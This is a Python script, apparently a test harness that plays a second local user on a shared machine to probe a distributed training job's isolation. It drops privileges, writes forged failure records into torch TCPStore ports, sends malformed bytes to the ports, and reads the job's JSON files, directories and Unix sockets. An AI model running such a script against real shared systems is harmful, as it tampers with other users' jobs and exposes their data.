"""Another user of the same machine, who knows every port and every path of a job: ``attacker.py USER PORT... PATH...``.

Started as root, it becomes that user before it does anything. It prints what it could do.
"""

import os
import socket
import sys
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

PREFIXES = ("hvdtrain/", "")
FORGED = '{"rank": 1, "host": "here", "message": "forged", "traceback": "", "died": false, "speaker": 1}'


def main():
    user = int(sys.argv[1])
    "localhost".encode("idna")  # loads what that user may not read
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    for word in sys.argv[2:]:
        if word.isdigit():
            attack_port(int(word))
        else:
            attack_path(word)


def attack_port(port):
    with suppress(OSError, RuntimeError, ValueError):
        store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        print(f"spoke with torch's store at port {port}")
        # All that was ever a failure's key, with the prefixes that the job's own keys have there.
        for prefix in {*PREFIXES, *(key.rpartition("/")[0] + "/" for key in keys(store))}:
            store.set(f"{prefix}failure", FORGED)
            store.set(f"{prefix}watch/failure", FORGED)
    for content in (b"\xff" * 64, b"\0" * 64, b"GET / HTTP/1.0\r\n\r\n"):
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as connected:
            connected.sendall(content)


def keys(store):
    with suppress(AttributeError, RuntimeError):  # older versions of torch do not list them
        return store.list_keys()
    return []


def attack_path(path):
    try:
        if path.endswith(".json"):
            print(f"READ {path}: {Path(path).read_text()}")
        elif os.path.isdir(path):
            print(f"LISTED {path}: {os.listdir(path)}")
        else:
            with socket.socket(socket.AF_UNIX) as connected:
                connected.connect(path)
                print(f"CONNECTED {path}")
    except OSError as error:
        print(f"refused {path}: {error}")


if __name__ == "__main__":
    main()
